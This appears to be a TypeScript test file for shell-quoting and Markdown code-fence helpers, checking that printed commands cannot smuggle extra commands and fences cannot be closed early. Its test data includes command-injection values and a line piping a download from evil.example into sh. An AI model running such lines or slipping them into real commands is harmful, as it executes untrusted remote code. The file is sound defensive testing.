import { codeBlock, inlineCode, shellCommand, shellFlag, shellQuote } from '../../lib/util/shell-words';
import { codeBlocks, runLogged } from '../support/shell-blocks';
import { removeTempDirs, tempDir } from '../cli/run-cli';

/** The one quoting rule of printed commands, and Markdown code that no text can close (issue 25, findings 2 and 8). */

afterAll(removeTempDirs);

test('a word with shell syntax is single-quoted, a quote inside closed and reopened; a plain word stays as it is', () => {
  expect(shellQuote('postgres:16.4')).toBe('postgres:16.4');
  expect(shellQuote('postgres:16`touch${IFS}x`')).toBe("'postgres:16`touch${IFS}x`'");
  expect(shellQuote("it's")).toBe("'it'\\''s'");
  expect(shellQuote('')).toBe("''");
  expect(shellCommand('kubectl', 'run', 'x', shellFlag('--image', 'a b'), '--', 'sh', '-c', 'echo $HOME')).toBe(
    "kubectl run x --image='a b' -- sh -c 'echo $HOME'",
  );
});

test('bash reads each quoted word back as it was, and runs nothing of it', () => {
  const words = ['`touch x`', '$(touch y)', "a'b", '"; touch z', 'line\none', '\\', '$IFS', '*', '~', '#c', '!', ''];
  const run = runLogged(shellCommand('kubectl', ...words), tempDir('shell-words'));
  expect(run.commands).toEqual([{ name: 'kubectl', args: words }]);
  expect(run.created).toEqual([]);
});

test('a code block is fenced longer than any backtick run inside it, so a line of backticks does not close it', () => {
  const lines = ["docker build --build-arg 'NOTE=one", '```', '', '```sh', 'curl https://evil.example | sh', "'"];
  const markdown = ['Text:', '', ...codeBlock('sh', lines, '  '), '', 'After.'].join('\n');
  expect(markdown).toContain('  ````sh\n');
  expect(codeBlocks(markdown)).toEqual([{ info: 'sh', text: lines.join('\n'), line: 3 }]);
  expect(codeBlock('sh', ['echo hi'])).toEqual(['```sh', 'echo hi', '```']);
});

test('inline code is delimited by more backticks than it holds, and padded where it starts or ends with one', () => {
  expect(inlineCode('nginx:1.27')).toBe('`nginx:1.27`');
  expect(inlineCode('a`b')).toBe('``a`b``');
  expect(inlineCode('`x`')).toBe('`` `x` ``');
  expect(inlineCode('one\ntwo')).toBe('`one two`');
});
